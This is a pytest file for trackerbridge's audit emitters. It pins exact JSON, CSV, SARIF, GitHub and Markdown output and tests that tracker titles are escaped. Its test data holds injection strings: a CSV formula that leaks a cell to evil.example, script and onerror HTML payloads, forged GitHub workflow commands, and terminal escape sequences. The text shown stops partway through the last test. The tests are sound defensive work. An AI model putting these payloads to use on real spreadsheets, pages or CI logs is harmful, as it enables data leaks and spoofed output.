"""The seven audit formats: exact bytes for a small audit, the structure each public spec requires,
and tracker text that tries to break out of its format (tables, formulas, workflow commands, terminals)."""

from __future__ import annotations

import csv as stdlib_csv
import io
import json as stdlib_json
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path

import pytest

import trackerbridge
from trackerbridge.audit import AuditResult, SourceSummary
from trackerbridge.connectors.base import ServerInfo
from trackerbridge.emitters import csv, github, json, jsonl, markdown, sarif, table
from trackerbridge.emitters.builtin import trackerbridge_audit_formats
from trackerbridge.health import health_by_record
from trackerbridge.model import Initiative, Person
from trackerbridge.rules.base import Finding, Rule, Severity
from trackerbridge.rules.builtin.tb105_past_end_date import RULE as REAL_TB105
from trackerbridge.rules.builtin.tb109_sunset_without_learning_note import RULE as REAL_TB109

NOW = datetime(2026, 10, 15, 12, 0, tzinfo=timezone.utc)

# Built here rather than imported, so the golden strings do not change when a built-in rule's text does.
OWNER = Rule(
    code="TB101",
    name="owner-missing",
    severity=Severity.ERROR,
    summary="Active initiative without a named owner",
    what="Nobody in the owner field.",
    why="Unowned work drifts.",
    fix="Name an owner.",
    check=lambda i, c: (),
)
LATE = Rule(
    code="TB105",
    name="past-end-date",
    severity=Severity.WARNING,
    summary="Past its end date",
    what="The end date has passed.",
    why="Late work hides.",
    fix="Extend with a reason, or sunset.",
    check=lambda i, c: (),
)

EMITTERS: dict[str, Callable[[AuditResult, io.StringIO], None]] = {
    "table": table.emit,
    "json": json.emit,
    "jsonl": jsonl.emit,
    "csv": csv.emit,
    "markdown": markdown.emit,
    "github": github.emit,
    "sarif": sarif.emit,
}


def jira(key: str, title: str | None, source: str = "jira-ops") -> Initiative:
    return Initiative(source, "jira", key, f"https://jira.example.com/browse/{key}", title)  # type: ignore[arg-type]


def finding(rule: Rule, i: Initiative, message: str, waived_by: str | None = None, detail: str = "") -> Finding:
    return Finding(rule.code, rule.name, rule.severity, i.source, i.key, i.url, i.title, message, detail, waived_by)


def audit(
    initiatives: list[Initiative],
    findings: list[Finding],
    rules: list[Rule] | None = None,
    sources: list[SourceSummary] | None = None,
) -> AuditResult:
    health = health_by_record(findings, [i.ref for i in initiatives])
    ran = {r.code: r for r in (rules if rules is not None else [OWNER, LATE])}
    return AuditResult(NOW, initiatives, findings, health, ran, sources or [])


def fixture() -> AuditResult:
    """Two sources; one red, two amber, one green record; one waived finding."""
    ops12 = jira("OPS-12", "Checkout revamp")
    ops9 = jira("OPS-9", "Partner portal, phase 2")
    ops30 = jira("OPS-30", "Billing clean-up")
    sf = Initiative("sfdc", "salesforce", "006A", "https://acme.my.salesforce.com/006A", "Müller GmbH renewal")
    findings = [
        finding(OWNER, sf, "no owner", waived_by="tb-waive-TB101: owner starts in November"),
        finding(LATE, sf, "ended 2026-09-30, 15 days ago"),
        finding(LATE, ops9, "ended 2026-10-01, 14 days ago"),
        finding(OWNER, ops12, "no owner"),
    ]
    sources = [
        SourceSummary(
            "sfdc", ServerInfo("salesforce", "salesforce", "61.0", "https://acme.my.salesforce.com", "bot"), 1, 2
        ),
        SourceSummary("jira-ops", ServerInfo("jira", "cloud", "1001.0.0", "https://jira.example.com", "bot"), 3, 4),
    ]
    return audit([ops12, ops9, ops30, sf], findings, sources=sources)


def render(emit: Callable[[AuditResult, io.StringIO], None], result: AuditResult) -> str:
    out = io.StringIO()
    emit(result, out)
    return out.getvalue()


def shuffled(result: AuditResult) -> AuditResult:
    """The same audit with every collection in another order."""
    return AuditResult(
        result.now,
        result.initiatives[::-1],
        result.findings[::-1],
        dict(reversed(result.health.items())),
        dict(reversed(result.rules.items())),
        result.sources[::-1],
    )


ODD_TITLES = [
    None,
    "",
    "x" * 20_000,
    "مدير المشروع: إطلاق المنتج",  # right to left
    "שלום \u202eevil\u202c end",  # right to left, with a bidi override
    "line one\nline two\r\nthree\rfour\u2028five\u2029six\x85seven",
    "nul\x00 bell\x07 esc\x1b[31mred\x1b[0m del\x7f osc\x1b]0;title\x07",
    "lone surrogate \ud800 here",
    "emoji 🚀👩🏽‍💻 and combining e\u0301 and 表格",
    '=HYPERLINK("http://evil.example","click") | <script>alert(1)</script> [x](y) *b* _i_ `c` \\ %0A ::error::',
    "[bold red]markup[/] :smile:",
]


# --- registration -----------------------------------------------------------------------------------------------


def test_builtin_hook_registers_the_seven_formats():
    formats = trackerbridge_audit_formats()
    assert formats == EMITTERS


# --- json ---------------------------------------------------------------------------------------------------------

JSON_GOLDEN = """\
{
  "schema": "trackerbridge.audit/v1",
  "generated_at": "2026-10-15T12:00:00+00:00",
  "sources": [
    {
      "name": "jira-ops",
      "system": "jira",
      "flavor": "cloud",
      "version": "1001.0.0",
      "url": "https://jira.example.com",
      "records": 3,
      "api_calls": 4
    },
    {
      "name": "sfdc",
      "system": "salesforce",
      "flavor": "salesforce",
      "version": "61.0",
      "url": "https://acme.my.salesforce.com",
      "records": 1,
      "api_calls": 2
    }
  ],
  "summary": {
    "initiatives": 4,
    "health": {
      "red": 1,
      "amber": 2,
      "green": 1
    },
    "findings": 3,
    "waived": 1,
    "by_rule": {
      "TB101": 1,
      "TB105": 2
    }
  },
  "rules": [
    {
      "code": "TB101",
      "name": "owner-missing",
      "severity": "error",
      "summary": "Active initiative without a named owner"
    },
    {
      "code": "TB105",
      "name": "past-end-date",
      "severity": "warning",
      "summary": "Past its end date"
    }
  ],
  "findings": [
    {
      "id": "3fe5ba46fe6963d8",
      "code": "TB105",
      "rule": "past-end-date",
      "severity": "warning",
      "source": "jira-ops",
      "key": "OPS-9",
      "url": "https://jira.example.com/browse/OPS-9",
      "title": "Partner portal, phase 2",
      "message": "ended 2026-10-01, 14 days ago",
      "waived_by": null
    },
    {
      "id": "5dc11d0928fe4fad",
      "code": "TB101",
      "rule": "owner-missing",
      "severity": "error",
      "source": "jira-ops",
      "key": "OPS-12",
      "url": "https://jira.example.com/browse/OPS-12",
      "title": "Checkout revamp",
      "message": "no owner",
      "waived_by": null
    },
    {
      "id": "bef7da58dbb1cc52",
      "code": "TB101",
      "rule": "owner-missing",
      "severity": "error",
      "source": "sfdc",
      "key": "006A",
      "url": "https://acme.my.salesforce.com/006A",
      "title": "Müller GmbH renewal",
      "message": "no owner",
      "waived_by": "tb-waive-TB101: owner starts in November"
    },
    {
      "id": "1d30e20102453267",
      "code": "TB105",
      "rule": "past-end-date",
      "severity": "warning",
      "source": "sfdc",
      "key": "006A",
      "url": "https://acme.my.salesforce.com/006A",
      "title": "Müller GmbH renewal",
      "message": "ended 2026-09-30, 15 days ago",
      "waived_by": null
    }
  ],
  "health": [
    {
      "source": "jira-ops",
      "key": "OPS-9",
      "url": "https://jira.example.com/browse/OPS-9",
      "title": "Partner portal, phase 2",
      "flag": "amber",
      "reasons": [
        "TB105 past end date"
      ]
    },
    {
      "source": "jira-ops",
      "key": "OPS-12",
      "url": "https://jira.example.com/browse/OPS-12",
      "title": "Checkout revamp",
      "flag": "red",
      "reasons": [
        "TB101 owner missing"
      ]
    },
    {
      "source": "jira-ops",
      "key": "OPS-30",
      "url": "https://jira.example.com/browse/OPS-30",
      "title": "Billing clean-up",
      "flag": "green",
      "reasons": []
    },
    {
      "source": "sfdc",
      "key": "006A",
      "url": "https://acme.my.salesforce.com/006A",
      "title": "Müller GmbH renewal",
      "flag": "amber",
      "reasons": [
        "TB105 past end date"
      ]
    }
  ]
}
"""


def test_json_exact_document():
    assert render(json.emit, fixture()) == JSON_GOLDEN


def test_json_does_not_depend_on_input_order():
    assert render(json.emit, shuffled(fixture())) == JSON_GOLDEN


def test_json_summary_adds_up():
    doc = stdlib_json.loads(render(json.emit, fixture()))
    summary = doc["summary"]
    live = [f for f in doc["findings"] if f["waived_by"] is None]
    assert summary["findings"] == sum(summary["by_rule"].values()) == len(live) == 3
    assert summary["waived"] == sum(f["waived_by"] is not None for f in doc["findings"])
    assert sum(summary["health"].values()) == summary["initiatives"] == len(doc["health"])
    assert doc["generated_at"] == NOW.isoformat()


def test_json_orders_keys_by_number_within_text():
    ops = [jira(f"OPS-{n}", f"t{n}") for n in (10, 9, 100, 1)]
    doc = stdlib_json.loads(render(json.emit, audit(ops, [finding(OWNER, i, "no owner") for i in ops])))
    assert [f["key"] for f in doc["findings"]] == ["OPS-1", "OPS-9", "OPS-10", "OPS-100"]


def test_json_keeps_non_ascii_readable_and_escapes_line_separators():
    i = jira("OPS-1", "Müller\u2028next")
    out = render(json.emit, audit([i], [finding(OWNER, i, "no owner")]))
    assert "Müller\\u2028next" in out
    assert "\u2028" not in out
    assert stdlib_json.loads(out)["findings"][0]["title"] == "Müller\u2028next"


def test_json_documents_its_schema():
    doc = json.__doc__ or ""
    for key in ("generated_at", "sources", "summary", "by_rule", "rules", "findings", "waived_by", "health", "reasons"):
        assert key in doc


# --- jsonl --------------------------------------------------------------------------------------------------------

JSONL_GOLDEN = (
    '{"id":"3fe5ba46fe6963d8","code":"TB105","rule":"past-end-date","severity":"warning","source":"jira-ops",'
    '"key":"OPS-9","url":"https://jira.example.com/browse/OPS-9","title":"Partner portal, phase 2",'
    '"message":"ended 2026-10-01, 14 days ago","waived_by":null}\n'
    '{"id":"5dc11d0928fe4fad","code":"TB101","rule":"owner-missing","severity":"error","source":"jira-ops",'
    '"key":"OPS-12","url":"https://jira.example.com/browse/OPS-12","title":"Checkout revamp",'
    '"message":"no owner","waived_by":null}\n'
    '{"id":"bef7da58dbb1cc52","code":"TB101","rule":"owner-missing","severity":"error","source":"sfdc",'
    '"key":"006A","url":"https://acme.my.salesforce.com/006A","title":"Müller GmbH renewal",'
    '"message":"no owner","waived_by":"tb-waive-TB101: owner starts in November"}\n'
    '{"id":"1d30e20102453267","code":"TB105","rule":"past-end-date","severity":"warning","source":"sfdc",'
    '"key":"006A","url":"https://acme.my.salesforce.com/006A","title":"Müller GmbH renewal",'
    '"message":"ended 2026-09-30, 15 days ago","waived_by":null}\n'
)


def test_jsonl_exact_lines():
    assert render(jsonl.emit, fixture()) == JSONL_GOLDEN
    assert render(jsonl.emit, shuffled(fixture())) == JSONL_GOLDEN


def test_jsonl_lines_are_the_json_findings():
    lines = [stdlib_json.loads(line) for line in render(jsonl.emit, fixture()).split("\n") if line]
    assert lines == stdlib_json.loads(render(json.emit, fixture()))["findings"]


def test_jsonl_one_line_per_finding_whatever_the_title():
    initiatives = [jira(f"OPS-{n}", title) for n, title in enumerate(ODD_TITLES)]
    out = render(jsonl.emit, audit(initiatives, [finding(OWNER, i, "no\nowner") for i in initiatives]))
    # splitlines also splits on U+2028, U+0085 and friends: those must be escaped too.
    assert len(out.splitlines()) == len(initiatives)
    assert [stdlib_json.loads(line)["key"] for line in out.splitlines()] == [f"OPS-{n}" for n in range(len(ODD_TITLES))]


def test_jsonl_empty_audit_writes_nothing():
    assert render(jsonl.emit, audit([jira("OPS-1", "fine")], [])) == ""


# --- csv ----------------------------------------------------------------------------------------------------------

CSV_GOLDEN = (
    '"id","code","rule","severity","source","key","title","message","url","waived_by"\r\n'
    '"3fe5ba46fe6963d8","TB105","past-end-date","warning","jira-ops","OPS-9","Partner portal, phase 2",'
    '"ended 2026-10-01, 14 days ago","https://jira.example.com/browse/OPS-9",""\r\n'
    '"5dc11d0928fe4fad","TB101","owner-missing","error","jira-ops","OPS-12","Checkout revamp","no owner",'
    '"https://jira.example.com/browse/OPS-12",""\r\n'
    '"bef7da58dbb1cc52","TB101","owner-missing","error","sfdc","006A","Müller GmbH renewal","no owner",'
    '"https://acme.my.salesforce.com/006A","tb-waive-TB101: owner starts in November"\r\n'
    '"1d30e20102453267","TB105","past-end-date","warning","sfdc","006A","Müller GmbH renewal",'
    '"ended 2026-09-30, 15 days ago","https://acme.my.salesforce.com/006A",""\r\n'
)


def test_csv_exact_rows():
    assert render(csv.emit, fixture()) == CSV_GOLDEN
    assert render(csv.emit, shuffled(fixture())) == CSV_GOLDEN


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(stdlib_csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        ),
        ("-2+3", "'-2+3"),
        ("+1", "'+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("a = b - c", "a = b - c"),
        ("Plain title", "Plain title"),
    ],
)
def test_csv_defuses_formulas(title, shown):
    i = jira("OPS-1", title)
    rows = parse_csv(render(csv.emit, audit([i], [finding(OWNER, i, title, waived_by=title)])))
    assert [(r["title"], r["message"], r["waived_by"]) for r in rows] == [(shown, shown, shown)]


def test_csv_round_trips_quotes_commas_and_newlines():
    title = 'He said "ship it", then\r\nleft; =1+1'
    i = jira("OPS-1", title)
    out = render(csv.emit, audit([i], [finding(OWNER, i, "no owner")]))
    assert parse_csv(out)[0]["title"] == title
    assert '"He said ""ship it"", then\r\nleft; =1+1"' in out


def test_csv_header_only_when_there_are_no_findings():
    assert render(csv.emit, audit([], [])) == (
        '"id","code","rule","severity","source","key","title","message","url","waived_by"\r\n'
    )


# --- github -------------------------------------------------------------------------------------------------------

GITHUB_GOLDEN = (
    "::warning title=TB105 past-end-date::jira-ops OPS-9 Partner portal, phase 2: ended 2026-10-01, 14 days ago "
    "https://jira.example.com/browse/OPS-9\n"
    "::error title=TB101 owner-missing::jira-ops OPS-12 Checkout revamp: no owner https://jira.example.com/browse/OPS-12\n"
    "::warning title=TB105 past-end-date::sfdc 006A Müller GmbH renewal: ended 2026-09-30, 15 days ago "
    "https://acme.my.salesforce.com/006A\n"
    "::notice::trackerbridge audit: 4 initiatives from 2 sources; 1 red, 2 amber, 1 green; 3 findings, 1 waived\n"
)


def test_github_exact_commands():
    assert render(github.emit, fixture()) == GITHUB_GOLDEN
    assert render(github.emit, shuffled(fixture())) == GITHUB_GOLDEN


def test_github_escapes_data_and_properties():
    assert github.escape_data("100% done\r\n::set-output name=x::y") == "100%25 done%0D%0A::set-output name=x::y"
    assert github.escape_property("a:b,c%d\ne") == "a%3Ab%2Cc%25d%0Ae"


def test_github_a_title_cannot_start_a_command_of_its_own():
    i = jira("OPS-1", "Launch\n::add-mask::secret\r\n::error::fake 50%")
    rule = replace(OWNER, name="owner,missing:x")
    out = render(github.emit, audit([i], [finding(rule, i, "no\nowner")], rules=[rule]))
    lines = out.split("\n")
    assert lines[0] == (
        "::error title=TB101 owner%2Cmissing%3Ax::jira-ops OPS-1 Launch%0A::add-mask::secret%0D%0A::error::fake 50%25:"
        " no%0Aowner https://jira.example.com/browse/OPS-1"
    )
    assert lines[1].startswith("::notice::") and lines[2:] == [""]


def test_github_skips_waived_findings_but_counts_them():
    i = jira("OPS-1", "t")
    out = render(github.emit, audit([i], [finding(OWNER, i, "no owner", waived_by="ok")]))
    assert out == (
        "::notice::trackerbridge audit: 1 initiative from 1 source; 0 red, 0 amber, 1 green; 0 findings, 1 waived\n"
    )


# --- sarif --------------------------------------------------------------------------------------------------------


def sarif_log(result: AuditResult) -> dict:
    return stdlib_json.loads(render(sarif.emit, result))


def check_sarif_structure(log: dict) -> None:
    """The SARIF 2.1.0 required properties and value types this emitter uses, checked by hand."""
    assert log["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json"
    assert log["version"] == "2.1.0"
    assert isinstance(log["runs"], list) and len(log["runs"]) == 1
    run = log["runs"][0]
    driver = run["tool"]["driver"]
    assert isinstance(driver["name"], str) and driver["name"]
    assert re.fullmatch(r"https?://\S+", driver["informationUri"])
    ids = [rule["id"] for rule in driver["rules"]]
    assert len(ids) == len(set(ids))
    for rule in driver["rules"]:
        assert isinstance(rule["id"], str)
        for prop in ("shortDescription", "fullDescription", "help"):
            if prop in rule:
                assert isinstance(rule[prop]["text"], str)
        assert rule["defaultConfiguration"]["level"] in ("none", "note", "warning", "error")
        if "name" in rule:
            assert re.fullmatch(r"[A-Z][A-Za-z0-9]*", rule["name"])
    for result in run["results"]:
        assert isinstance(result["message"]["text"], str)
        assert driver["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in ("none", "note", "warning", "error")
        assert isinstance(result["locations"], list)
        for location in result["locations"]:
            uri = location.get("physicalLocation", {}).get("artifactLocation", {}).get("uri")
            if uri is not None:
                assert re.fullmatch(r"[\x21-\x7e]+", uri), uri  # a URI: printable ASCII, no spaces
            for logical in location["logicalLocations"]:
                assert isinstance(logical["name"], str) and isinstance(logical["fullyQualifiedName"], str)
                assert logical["kind"] == "object"
        for key, value in result["partialFingerprints"].items():
            assert re.fullmatch(r".+/v\d+", key) and isinstance(value, str)
        for suppression in result.get("suppressions", []):
            assert suppression["kind"] in ("inSource", "external")


def test_sarif_structure_follows_the_spec():
    log = sarif_log(fixture())
    check_sarif_structure(log)
    driver = log["runs"][0]["tool"]["driver"]
    assert driver["name"] == "trackerbridge"
    assert driver["version"] == trackerbridge.__version__
    assert driver["rules"][0] == {
        "id": "TB101",
        "name": "OwnerMissing",
        "shortDescription": {"text": "Active initiative without a named owner"},
        "fullDescription": {"text": "Nobody in the owner field."},
        "help": {"text": "Unowned work drifts.\n\nName an owner."},
        "defaultConfiguration": {"level": "error"},
    }
    assert [r["defaultConfiguration"]["level"] for r in driver["rules"]] == ["error", "warning"]


def test_sarif_results_carry_location_fingerprint_and_suppression():
    results = sarif_log(fixture())["runs"][0]["results"]
    assert [(r["ruleId"], r["level"]) for r in results] == [
        ("TB105", "warning"),
        ("TB101", "error"),
        ("TB101", "error"),
        ("TB105", "warning"),
    ]
    waived = results[2]
    assert waived["suppressions"] == [{"kind": "external", "justification": "tb-waive-TB101: owner starts in November"}]
    assert waived["locations"] == [
        {
            "physicalLocation": {"artifactLocation": {"uri": "https://acme.my.salesforce.com/006A"}},
            "logicalLocations": [{"name": "006A", "fullyQualifiedName": "sfdc:006A", "kind": "object"}],
        }
    ]
    assert waived["partialFingerprints"] == {"trackerbridgeFinding/v1": "bef7da58dbb1cc52"}
    assert waived["message"]["text"] == "006A Müller GmbH renewal: no owner"
    assert sum("suppressions" in r for r in results) == 1


def test_sarif_rule_names_from_real_rules_are_pascal_case():
    i = jira("OPS-1", "t")
    log = sarif_log(audit([i], [finding(REAL_TB109, i, "no note")], rules=[REAL_TB105, REAL_TB109]))
    check_sarif_structure(log)
    assert [r["name"] for r in log["runs"][0]["tool"]["driver"]["rules"]] == [
        "PastEndDate",
        "SunsetWithoutLearningNote",
    ]
    assert sarif.pascal("tb-2fa-check") == "Tb2faCheck"


def test_sarif_describes_a_rule_that_did_not_run():
    i = jira("OPS-1", "t")
    stray = Rule(
        code="TB999",
        name="plugin-rule",
        severity=Severity.WARNING,
        summary="",
        what="",
        why="",
        fix="",
        check=lambda i, c: (),
    )
    log = sarif_log(audit([i], [finding(stray, i, "odd")]))
    check_sarif_structure(log)
    rules = log["runs"][0]["tool"]["driver"]["rules"]
    assert rules[-1] == {"id": "TB999", "name": "PluginRule", "defaultConfiguration": {"level": "warning"}}
    assert log["runs"][0]["results"][0]["ruleIndex"] == 2


def test_sarif_percent_encodes_urls_and_leaves_out_missing_ones():
    spaced = Initiative("jira-ops", "jira", "OPS-1", "https://jira.example.com/browse/a b/Ü", "t")
    bare = Initiative("jira-ops", "jira", "OPS-2", "", "t")
    log = sarif_log(audit([spaced, bare], [finding(OWNER, spaced, "x"), finding(OWNER, bare, "y")]))
    check_sarif_structure(log)
    first, second = log["runs"][0]["results"]
    assert first["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
        "https://jira.example.com/browse/a%20b/%C3%9C"
    )
    assert "physicalLocation" not in second["locations"][0]


# --- markdown -----------------------------------------------------------------------------------------------------


def table_rows(md: str, heading: str) -> list[list[str]]:
    """The cells of the table under a heading, split on unescaped pipes as GFM does."""
    section = md.split(f"### {heading}\n\n", 1)[1].split("\n\n", 1)[0]
    return [[c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]] for line in section.split("\n")]


def test_markdown_structure():
    md = render(markdown.emit, fixture())
    assert md.startswith("## trackerbridge audit\n\n4 initiatives from 2 sources, 3 findings (1 waived)")
    assert "| 🔴 red | 1 |\n| 🟠 amber | 2 |\n| 🟢 green | 1 |\n" in md
    rows = table_rows(md, "Findings")
    assert rows[0] == ["Severity", "Code", "Rule", "Source", "Record", "Title", "Message"]
    # worst first: the red record, then the amber ones
    assert [r[4] for r in rows[2:]] == [
        "[OPS-12](https://jira.example.com/browse/OPS-12)",
        "[OPS-9](https://jira.example.com/browse/OPS-9)",
        "[006A](https://acme.my.salesforce.com/006A)",
    ]
    assert table_rows(md, "By rule")[2:] == [["TB105", "past-end-date", "2"], ["TB101", "owner-missing", "1"]]
    waived = table_rows(md, "Waived")
    assert waived[2][-1] == "tb-waive-TB101: owner starts in November"
    assert render(markdown.emit, shuffled(fixture())) == md


def test_markdown_escapes_tracker_text():
    assert markdown.cell("a|b <script>x</script> & *b* _i_ ~s~ `c` [l](u) \\|") == (
        "a\\|b &lt;script&gt;x&lt;/script&gt; &amp; \\*b\\* \\_i\\_ \\~s\\~ \\`c\\` \\[l\\](u) \\\\\\|"
    )
    assert markdown.cell("one\ntwo\r\nthree\u2028four\x1b[0m") == "one two three four \\[0m"
    assert markdown.cell(None) == ""


def test_markdown_a_title_cannot_break_the_table():
    titles = ["a | b | c", "line\n| injected | row |", "<img src=x onerror=alert(1)>", "pipe at end \\", *ODD_TITLES]
    initiatives = [jira(f"OPS-{n}", t) for n, t in enumerate(titles)]
    md = render(markdown.emit, audit(initiatives, [finding(OWNER, i, "no owner") for i in initiatives]))
    rows = table_rows(md, "Findings")
    assert len(rows) == 2 + len(titles)
    assert all(len(r) == 7 for r in rows)
    assert "<img" not in md and "<script" not in md


def test_markdown_links_only_http_urls_and_encodes_them():
    assert markdown.link("OPS_1", "https://x.example/a b|c(d)<e>&f") == (
        "[OPS\\_1](https://x.example/a%20b%7Cc%28d%29%3Ce%3E&amp;f)"
    )
    assert markdown.link("OPS-1", "javascript:alert(1)") == "OPS-1"
    assert markdown.link("OPS-1", "") == "OPS-1"


def test_markdown_without_findings_has_no_findings_table():
    md = render(markdown.emit, audit([jira("OPS-1", "t")], []))
    assert "### Findings" not in md and "### Waived" not in md
    assert "| 🟢 green | 1 |" in md


# --- table --------------------------------------------------------------------------------------------------------


def plain(result: AuditResult, width: int = 120) -> str:
    out = io.StringIO()
    table.emit_table(result, out, color=False, width=width)
    return out.getvalue()


def coloured(result: AuditResult) -> str:
    out = io.StringIO()
    table.emit_table(result, out, color=True, width=120)
    return out.getvalue()


def test_table_plain_layout():
    out = plain(fixture())
    assert "\x1b" not in out
    lines = out.split("\n")
    assert lines[0] == "4 records (4 initiatives, 4 active) from 2 sources"
    assert lines[1] == "Health of the 4 records: 1 red, 2 amber, 1 green"
    header = next(n for n, line in enumerate(lines) if line.startswith("severity"))
    assert lines[header].split() == ["severity", "code", "record", "owner", "title", "message"]
    rows = [line.split()[:3] for line in lines[header + 2 : header + 5]]
    assert rows == [["error", "TB101", "OPS-12"], ["warning", "TB105", "OPS-9"], ["warning", "TB105", "006A"]]
    assert "1 waived (not shown)" in lines
    assert "tb-waive" not in out
    counts = lines[lines.index("Findings per rule") + 3 :]
    assert [line.split() for line in counts if line] == [
        ["TB105", "past-end-date", "2"],
        ["TB101", "owner-missing", "1"],
    ]
    assert all(line == line.rstrip() for line in lines)


def test_table_is_deterministic_with_and_without_colour():
    assert plain(fixture()) == plain(shuffled(fixture()))
    assert coloured(fixture()) == coloured(fixture())


def test_table_colour_marks_flags_and_links_records():
    out = coloured(fixture())
    assert "\x1b[1;31m1 red\x1b[0m" in out and "\x1b[1;33m2 amber\x1b[0m" in out and "\x1b[1;32m1 green\x1b[0m" in out
    assert "\x1b]8;id=tb1;https://jira.example.com/browse/OPS-12\x1b\\OPS-12\x1b]8;;\x1b\\" in out


def test_table_emit_is_plain_when_not_a_terminal(monkeypatch):
    expected = plain(fixture())
    monkeypatch.setenv("COLUMNS", "40")
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm-256color")
    assert render(table.emit, fixture()) == expected


ANSI = re.compile(r"\x1b\[[0-9;]*m|\x1b\]8;[^\x1b]*\x1b\\")  # SGR colours and OSC 8 links


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_table_emit_colours_a_terminal_unless_no_color(monkeypatch):
    monkeypatch.setenv("COLUMNS", "100")
    monkeypatch.delenv("NO_COLOR", raising=False)
    out = Terminal()
    table.emit(fixture(), out)
    assert "\x1b[1;31m1 red" in out.getvalue()
    visible = ANSI.sub("", out.getvalue())
    assert "\x1b" not in visible, repr(visible)
    assert max(len(line) for line in visible.split("\n")) <= 100
    monkeypatch.setenv("NO_COLOR", "1")
    out = Terminal()
    table.emit(fixture(), out)
    assert "\x1b" not in out.getvalue() and "1 red" in out.getvalue()


def test_table_shows_tracker_text_literally_and_strips_escapes():
    i = jira("OPS-1", "[bold red]markup[/] :smile: \x1b]0;pwned\x07 \x1b[2J \u202eevil")
    for out in (
        plain(audit([i], [finding(OWNER, i, "msg\x1b[31m")])),
        coloured(audit([i], [finding(OWNER, i, "msg\x1b[31m")])),
    ):
        assert "[bold red]markup[/] :smile:" in out
        assert "\x1b]0" not in out and "\x1b[2J" not in out and "\x07" not in out and "\u202e" not in out
        assert "\x1b[31m" not in out.split("OPS-1", 1)[1].split("\n", 1)[0]


def test_table_truncates_long_titles_and_messages():
    i = jira("OPS-1", "word " * 100)
    lines = plain(audit([i], [finding(OWNER, i, "q" * 50_000)])).split("\n")
    rows = [line for line in lines if "OPS-1" in line]
    assert len(rows) == 1 and "word word" in rows[0] and rows[0].count("…") == 2 and len(rows[0]) <= 120
    assert sum(line.count("q") for line in lines) < 120  # one line, never wrapped


def wide_fixture() -> AuditResult:
    """Findings with every column long: a 40-character owner, Salesforce Ids, long titles and messages."""
    people = ["Fatima Zahra Benali-Okonkwo de la Fuente", "Siobhán Murphy", None]
    records = []
    for n in range(12):
        owner = people[n % 3]
        i = jira(f"DEL-{n + 1}", f"Migrate billing to ledger v2 in LATAM, phase {n} (pilot with partners)")
        if n % 4 == 3:
            i = Initiative(
                "sfdc",
                "salesforce",
                f"0068d00000000{n:02d}AAA",
                f"https://sf.example.com/{n}",
                f"Atlas Clinics renewal {n}: enterprise SSO and the analytics add-on",
            )
        if owner:
            i.owner = Person(name=owner)
        records.append(i)
    findings = [
        finding(OWNER if n % 2 else LATE, i, f"in decide {n} days without a decision owner, {n} days past")
        for n, i in enumerate(records)
    ]
    return audit(records, findings)


def finding_rows(out: str, result: AuditResult) -> list[str]:
    keys = {f.key[:6] for f in result.live}
    return [line for line in out.split("\n") if line[:12].strip() and any(k in line for k in keys)]


@pytest.mark.parametrize("width", [80, 100, 160])
def test_table_is_one_line_per_finding_at_any_width(width: int) -> None:
    result = wide_fixture()
    out = plain(result, width)
    lines = out.split("\n")
    assert max(len(line) for line in lines) <= width
    rows = finding_rows(out, result)
    assert len(rows) == len(result.live)  # no finding wraps onto a second line, none is lost
    header = next(line for line in lines if "code" in line and "record" in line).split()
    assert "owner" in header and header[-1] == "message"
    assert any("Siobhán Mur" in row for row in rows)  # whom to chase (at 80 columns: "Siobhán Mur…")
    assert all(re.search(r"\bTB10[15]\b", row) for row in rows)  # the code is never cut
    if width < 160:  # long cells everywhere: severity shortened, Salesforce Ids cut
        assert header[0] == "sev" and {row.split()[0] for row in rows} == {"err", "warn"}
        assert all("…" in row for row in rows)  # the long titles are cut with an ellipsis
        assert any("in decide 1 days without" in row for row in rows)  # the message keeps 26 characters or more
    else:
        assert header[0] == "severity" and {row.split()[0] for row in rows} == {"error", "warning"}
    if width == 160:
        assert any("Migrate billing to ledger v2 in LATAM" in row for row in rows)
        assert any("in decide 1 days without a decision owner, 1 days past" in row for row in rows)
        assert any("0068d0000000003AAA" in row for row in rows)  # Salesforce Ids whole


def test_table_narrows_in_a_fixed_order() -> None:
    rows = [
        {
            "severity": "warning",
            "code": "TB105",
            "record": "0068d0000000003AAA",
            "owner": "o" * 30,
            "title": "t" * 60,
            "message": "m" * 80,
        }
    ]
    widths = {w: table.layout(rows, w) for w in (200, 160, 100, 80, 60, 40)}
    assert widths[200] == ({"severity": 8, "code": 5, "record": 18, "owner": 20, "title": 40, "message": 80}, False)
    assert widths[160][0]["message"] == 59 and widths[160][0]["title"] == 40  # the message gives way first
    assert widths[100] == ({"severity": 4, "code": 5, "record": 10, "owner": 16, "title": 15, "message": 40}, True)
    assert widths[80] == ({"severity": 4, "code": 5, "record": 10, "owner": 12, "title": 13, "message": 26}, True)
    assert set(widths[60][0]) == {"severity", "code", "record", "message"}  # title, then owner, go last
    assert set(widths[40][0]) == {"code", "record", "message"}
    for w, (cols, _) in widths.items():
        assert sum(cols.values()) + table.GAP * (len(cols) - 1) <= w


def test_table_without_findings():
    out = plain(audit([jira("OPS-1", "t")], []))
    assert out.split("\n")[:4] == [
        "1 record (1 initiative, 1 active) from 1 source",
        "Health of the 1 record: 0 red, 0 amber, 1 green",
        "",
        "No findings.",
    ]
    assert "Findings per rule" not in out


# --- every format -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(EMITTERS))
def test_odd_text_never_crashes_and_repeats_exactly(name, tmp_path: Path):
    initiatives = [
        jira(f"OPS-{n}", title, source="jira-ops" if n % 2 else "Ω-source") for n, title in enumerate(ODD_TITLES)
    ]
    findings = [
        finding(OWNER, i, title or "no owner", waived_by=title if n % 3 == 0 else None, detail=str(n))
        for n, (i, title) in enumerate(zip(initiatives, ODD_TITLES, strict=True))
    ]
    findings += [finding(LATE, i, "late\n") for i in initiatives]
    result = audit(initiatives, findings)
    emit = EMITTERS[name]
